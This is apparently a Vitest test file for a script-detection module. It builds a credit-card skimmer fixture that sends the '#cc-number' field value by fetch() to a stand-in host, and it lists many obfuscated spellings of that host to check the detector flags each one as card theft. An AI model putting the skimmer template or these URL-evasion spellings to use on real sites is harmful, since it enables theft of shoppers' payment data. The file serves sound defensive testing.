// No spelling of an address makes a stranger look like the page's own server.
import { expect, it } from 'vitest'
import { judgeScript } from '#detection/index.ts'

const skimmer = (address: string) =>
  `document.querySelector('#cc-number').addEventListener('change', (e) => fetch(${JSON.stringify(address)} + '/?d=' + e.target.value))`

it.each([
  '/\\evil.example',
  '\\\\evil.example',
  'https:\\\\evil.example',
  'https:///evil.example',
  'http:evil.example',
  'http:/evil.example',
  'ht\ttps://ev\nil.example',
  '\u0001//evil.example',
  'https://evil.example\\@js.stripe.com',
  '//evil%2Eexample',
  '//3232235777',
  '//[2001:db8::1]',
  '/\\evil',
])('the card that goes to %j goes to a stranger', (address) => {
  const { verdict, reasons } = judgeScript(skimmer(address))
  expect([verdict, reasons[0]?.code]).toEqual(['malicious', 'card-to-stranger'])
})

it('the card that goes to this machine by a number is reported', () => {
  expect(judgeScript(skimmer('//2130706433')).reasons.map(({ code }) => code)).toContain('card-to-this-machine')
})

it('the visible end of a partly hidden host says whose it is, a file extension does not', () => {
  const to = (address: string) => judgeScript(`document.querySelector('#cc-number').onchange = (e) => fetch(${address})`)
  expect(to("'https://js.stripe.com' + e.target.value + '.evil.example/'").verdict).toBe('malicious')
  expect(to("'https://' + e.target.value + '.evil.example/'").verdict).toBe('malicious')
  expect(to("'https://js.stripe.com' + e.target.value + '.min.js'").reasons.map(({ code }) => code)).not.toContain('card-to-stranger')
})

it('the card that goes to the page’s own server or to a provider is not theft', () => {
  for (const address of ['/pay', 'pay', 'https://api.stripe.com/v1/tokens']) expect(judgeScript(skimmer(address)).verdict).toBe('benign')
})
